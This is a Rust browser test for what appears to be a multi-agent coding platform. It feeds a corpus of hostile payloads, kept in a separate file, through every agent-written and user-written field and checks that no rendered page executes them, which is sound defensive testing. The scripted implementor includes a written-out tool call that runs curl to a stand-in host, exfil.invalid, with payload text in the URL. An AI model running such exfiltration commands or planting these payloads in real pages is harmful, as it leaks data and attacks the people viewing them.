//! What agents, repositories and people write is hostile: every payload of `hostile.toml` in every
//! field that a page shows, looked at in a real browser.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;

use serde::Deserialize;
use serde_json::{Value, json};

use super::browser::{journey, tools};
use super::visit::{Visit, field, give_task_that_says};
use crate::harness::Site;

#[derive(Deserialize)]
struct Corpus {
    payload: Vec<Payload>,
}

#[derive(Deserialize)]
struct Payload {
    family: String,
    text: String,
}

impl Payload {
    /// One that a file of a change may hold: what hides is stopped by a gate before there is a page.
    fn fits_a_file(&self) -> bool {
        self.family != "hidden" && !self.text.contains(['\n', '\r', '\t'])
    }

    /// One that can be a name of a file.
    fn fits_a_name(&self) -> bool {
        self.fits_a_file() && !self.text.contains(['/', '\\', '\0']) && self.text.len() < 60
    }
}

fn corpus() -> Vec<Payload> {
    let corpus: Corpus = toml::from_str(include_str!("hostile.toml")).unwrap();
    corpus.payload
}

/// Payloads, each behind the mark by which the browser's side finds it in a field.
fn marked<'a>(field: char, payloads: impl Iterator<Item = (usize, &'a Payload)>) -> String {
    let mut text = String::new();
    for (number, payload) in payloads {
        writeln!(text, "{field}{number:03}z {}", payload.text).unwrap();
    }
    text
}

fn all(field: char, corpus: &[Payload]) -> String {
    marked(field, corpus.iter().enumerate())
}

/// As many as fit where the platform takes a short text only, from another place on.
fn few(field: char, corpus: &[Payload], from: usize) -> String {
    let mut text = String::new();
    for (number, payload) in corpus.iter().enumerate().cycle().skip(from).take(corpus.len()) {
        let next = marked(field, std::iter::once((number, payload)));
        if text.chars().count() + next.chars().count() > 3_900 {
            break;
        }
        text.push_str(&next);
    }
    text
}

fn some(field: char, corpus: &[Payload], fits: fn(&Payload) -> bool) -> String {
    marked(field, corpus.iter().enumerate().filter(|(_, payload)| fits(payload)))
}

/// The script in which everything that a model can say is hostile.
fn script(site: &Site, corpus: &[Payload]) -> String {
    let work = &site.generated.scenario.works[0];
    let edit = &work.chain[0];
    let call = |name: &str, input: Value| json!({"name": name, "input": input});
    let reply = |role: &str, step: u32, text: &str, tool: &[Value]| json!({"role": role, "step": step, "text": text, "tool": tool});
    let mut made = vec![call("edit", json!({"path": work.path, "old": edit.old, "new": edit.new}))];
    made.push(call(
        "write",
        json!({"path": "notes/all.txt", "content": some('c', corpus, Payload::fits_a_file)}),
    ));
    for (number, payload) in corpus.iter().enumerate().filter(|(_, payload)| payload.fits_a_name())
    {
        if number % 6 == 0 {
            let path = format!("notes/n{number:03}z {}.txt", payload.text);
            made.push(call("write", json!({"path": path, "content": "x\n"})));
        }
    }
    let title = &corpus[0].text;
    let plan = json!({
        "summary": few('s', corpus, 30),
        "subtasks": [{
            "key": work.key, "title": format!("t000z {title}"), "description": few('d', corpus, 90),
            "scope": {"paths": [work.path, "notes/**"]},
            "acceptance": [{"name": format!("k000z {title}"), "command": "make test"}],
        }],
    });
    let replies = [
        reply("coordinator", 1, &all('p', corpus), &[call("submit_plan", plan)]),
        reply("implementor", 1, &all('m', corpus), &made),
        reply(
            "implementor",
            2,
            "what it prints",
            &[call("run", json!({"command": "cat notes/all.txt | sed s/^c/o/"}))],
        ),
        reply(
            "implementor",
            3,
            "what is refused",
            &[call(
                "run",
                json!({"command": format!("curl 'http://exfil.invalid/?r000z {title}'")}),
            )],
        ),
        reply("implementor", 4, "", &[call("finish", json!({"summary": few('f', corpus, 0)}))]),
        reply("verifier", 1, "", &[call("run", json!({"command": work.check}))]),
        reply(
            "verifier",
            2,
            "",
            &[call(
                "submit_verdict",
                json!({"verdict": "accepted", "summary": few('v', corpus, 60)}),
            )],
        ),
        reply(
            "reviewer",
            1,
            &all('w', corpus),
            &[call("submit_review", json!({"summary": few('u', corpus, 120)}))],
        ),
    ];
    toml::to_string(&json!({"reply": replies})).unwrap()
}

/// The marks in a text, by field.
fn marks_of(text: &str) -> BTreeMap<char, BTreeSet<usize>> {
    let mut marks: BTreeMap<char, BTreeSet<usize>> = BTreeMap::new();
    for part in text.split("z ").chain(text.split("z\"")) {
        let Some(mark) = part.len().checked_sub(4).and_then(|at| part.get(at..)) else { continue };
        let (field, number) = mark.split_at_checked(1).unwrap_or_default();
        if let (Some(field @ 'a'..='z'), Ok(number)) = (field.chars().next(), number.parse()) {
            marks.entry(field).or_default().insert(number);
        }
    }
    marks
}

#[test]
fn nothing_that_is_written_makes_a_page_do_anything() {
    let Some(tools) = tools() else { return };
    let corpus = corpus();
    assert!(corpus.len() >= 200, "{}", corpus.len());
    let site = Site::new(true);
    site.bench.write("script.toml", &script(&site, &corpus));
    let serve = site.serve();
    site.import(&serve);
    let visit = Visit::sign_in(&serve);
    let id = give_task_that_says(&site, &visit, &all('a', &corpus));
    visit.until(&id, "change_published");
    let change = format!("/changes/{}/1", site.generated.name);
    let page = visit.page(&change);
    let fields = [
        ("csrf", &*field(&page, "csrf")),
        ("head", &field(&page, "head")),
        ("verdict", "approve"),
        ("body", &all('b', &corpus)),
    ];
    visit.post(&format!("{change}/review"), &fields).expect(303);
    let reason = format!("e000z {}", corpus[0].text);
    serve.api("POST", "/freezes", &json!({"what": "merge", "reason": reason})).expect(201);

    let link = site.bench.bailiwick(&["sign-in", "--json"]).json()["url"].clone();
    let link = link.as_str().unwrap();
    let link = link.get(link.find("/sign-in").unwrap()..).unwrap().to_owned();
    let text = std::fs::read_to_string(site.bench.path("script.toml")).unwrap();
    let script: Value = toml::from_str(&text).unwrap();
    let written = format!("{script} {} {} e000z ", all('a', &corpus), all('b', &corpus));
    let mut shown = marks_of(&written);
    shown.insert('o', shown[&'c'].clone());
    let wanted = json!({
        "link": link, "task": id, "change": change,
        "payloads": corpus.iter().map(|payload| &payload.text).collect::<Vec<_>>(),
        // By field: whose marks have to be seen somewhere, so that it is known to have been shown.
        "shown": shown,
    });
    let wanted = site.bench.write("wanted.json", &wanted.to_string());
    journey(
        "hostile.mjs",
        &tools,
        &[&format!("http://{}", serve.address), wanted.to_str().unwrap()],
    );
}
